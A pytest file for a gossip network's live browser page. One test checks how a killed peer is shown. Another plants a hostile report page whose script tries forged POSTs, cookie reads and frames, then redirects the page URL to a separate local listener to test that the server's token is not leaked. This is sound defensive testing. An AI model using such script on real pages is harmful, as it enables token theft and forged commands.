"""The live page in a real browser: ten peers, of which one is killed; and a hostile report.

Skipped where no browser is installed."""

import json
import re
import signal
import socket
import threading

import pytest

from gossip.pictures.live_follow import Follow
from gossip.pictures.live_page import page
from gossip.pictures.live_server import Server
from tests.tools.browser import BROWSER, Browser
from tests.tools.nets import FAST
from tests.tools.ports import free_address, free_port
from tests.tools.programs import Program, write_config
from tests.tools.waiting import wait_until

LINE = re.compile(r"watching (.*) at (http://127\.0\.0\.1:\d+/[\w-]+/)   \(Ctrl-C ends it\)\n")
AT_REST = "page.nodes.length === 10 && !page.layout.moving"
PLACES = ("Object.fromEntries([...page.picture.spots].map(([number, spot]) => "
          "[page.model.nodes.get(number).address, [spot.x, spot.y]]))")
SAY = "document.getElementById({!r}).textContent"


class Shown:
    """One node as the page in a tab shows it."""

    def __init__(self, tab, address):
        self._tab = tab
        self._node = ("[...page.model.nodes.values()].find("
                      f"node => node.address === {json.dumps(str(address))})")

    def state(self) -> str:
        return self._tab.value(f"{self._node}.state")

    def becomes(self, state: str) -> None:
        self._tab.becomes(f"{self._node}.state === {json.dumps(state)}", f"the peer to be {state}")

    def entered(self, state: str) -> list[float]:
        """When it got into a state, on the page's own clock in microseconds."""
        return self._tab.value(
            f"page.model.changes.filter(([, kind, number, state]) => kind === 'state' && "
            f"number === {self._node}.number && state === {json.dumps(state)})"
            ".map(([time]) => time)")


def watch(folder):
    """The watcher of a folder, and its address."""
    program = Program("runner.py", "watch", folder)
    found = LINE.fullmatch(program.process.stdout.readline().decode())
    assert found and found[1] == str(folder)
    return program, found[2]


def seek(tab, time: float) -> None:
    """Move the slider to a time."""
    tab.value("(() => { const slider = document.getElementById('slider'); "
              f"slider.value = {time / 1000}; slider.dispatchEvent(new Event('input')); }})()")


def moved(before: dict, after: dict) -> float:
    """How far the node has moved that has moved most, in pixels."""
    return max(((x - after[node][0]) ** 2 + (y - after[node][1]) ** 2) ** 0.5
               for node, (x, y) in before.items() if node in after)


@pytest.mark.skipif(BROWSER is None, reason="needs chromium, google-chrome or chromium-browser")
def test_a_kill_is_seen_as_it_happens_and_undone_by_the_slider(net, tmp_path_factory):
    net.seeds(3)
    others, killed = net.peers(9), free_address()
    config = write_config(net.folder, net.seed_addresses)
    flags = ["--config", config, "--outputs", net.folder, "--quiet", "--gossip-count", 0,
             "--liveness-interval", FAST.liveness_interval]
    watcher, url = watch(net.folder)
    with (watcher, Program("peer.py", killed.port, *flags) as peer,
          Browser(tmp_path_factory.mktemp("browser")) as tab):
        tab.open(url)
        shown = Shown(tab, killed)
        tab.becomes("page.model.figures().peers === 10 && page.model.figures().pieces === 1",
                    "ten peers in one piece")
        tab.becomes(AT_REST, "the layout to rest")
        before, radius = tab.value(PLACES), tab.value("page.picture.radius")

        others[0].gossip(["hello"])
        sentence = SAY.format("sentence")
        tab.becomes(f"{sentence}.includes('“hello”')", "a sentence about the message")
        tab.becomes(f"{sentence}.includes('10 of 10 have it; all in ')", "all to have it")

        peer.process.kill()
        wait_until(lambda: shown.state() != "up", what="the page to show the kill")
        shown.becomes("dead")
        [lost], [dead] = shown.entered("lost"), shown.entered("dead")
        assert lost < dead
        assert moved(before, tab.value(PLACES)) <= radius
        assert str(killed.port) in tab.value(SAY.format("story"))

        seek(tab, lost - 1)
        shown.becomes("up")
        assert tab.value("page.player.live") is tab.value("page.player.running") is False
        assert moved(before, tab.value(PLACES)) <= radius
        tab.value("document.getElementById('back').click()")
        shown.becomes("dead")

        assert tab.errors() == []
        asked = tab.requests()
        assert url in asked and [one for one in asked if not one.startswith((url, "data:"))] == []
        watcher.process.send_signal(signal.SIGINT)
        assert watcher.process.wait(30) == 0


SCRIPT = """<!DOCTYPE html><meta name="referrer" content="unsafe-url"><p id="p"></p><script>
const tried = [];
const attempt = (what, action) => { try { action(); tried.push(what); } catch (error) { } };
attempt("fetch", () => fetch("do", {method: "POST", body: "{}",
  headers: {"Content-Type": "application/json"}}).catch(() => 0));
attempt("beacon", () => navigator.sendBeacon("do", "{}"));
attempt("form", () => { const form = document.createElement("form"); form.method = "post";
  form.action = "do"; document.body.append(form); form.submit(); });
attempt("window", () => { if (!window.open("./")) throw 0; });
attempt("opener", () => opener.document.URL);
attempt("cookie", () => document.cookie);
attempt("frame", () => { const frame = document.createElement("iframe"); frame.src = "./";
  document.body.append(frame); });
location = "http://127.0.0.1:PORT/" + encodeURIComponent(document.URL);
</script>"""


class Elsewhere:
    """A server of somebody else on this machine, which hears what a page tells it."""

    def __init__(self):
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = self._listener.getsockname()[1]

    def hear(self) -> str:
        """The head of the next request."""
        self._listener.settimeout(60)
        sock, _ = self._listener.accept()
        with sock, sock.makefile("rb") as stream:
            head = b"".join(iter(stream.readline, b"\r\n"))
            sock.sendall(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")
        return head.decode()

    def __enter__(self):
        return self

    def __exit__(self, *error):
        self._listener.close()


@pytest.mark.skipif(BROWSER is None, reason="needs chromium, google-chrome or chromium-browser")
def test_a_script_in_the_report_can_tell_nobody_how_to_give_orders(tmp_path, tmp_path_factory):
    orders, (end, ended) = [], socket.socketpair()
    with Elsewhere() as elsewhere, Browser(tmp_path_factory.mktemp("browser")) as tab:
        (tmp_path / "report.html").write_text(SCRIPT.replace("PORT", str(elsewhere.port)))
        follow = Follow(tmp_path)
        server = Server(follow, *page(("kill",)), free_port(),
                        lambda order: orders.append(order) or (200, "done"))
        serving = threading.Thread(target=server.serve, args=(ended,))
        serving.start()
        try:
            tab.open(server.url)
            tab.becomes("!document.getElementById('report').hidden", "a link to the report")
            tab.ask("Page.navigate", url=tab.value("document.getElementById('report').href"))
            told = elsewhere.hear()
        finally:
            end.close()
            serving.join(60)
            server.close()
            ended.close()
    assert "%2Freport" in told and server.token not in told and orders == []
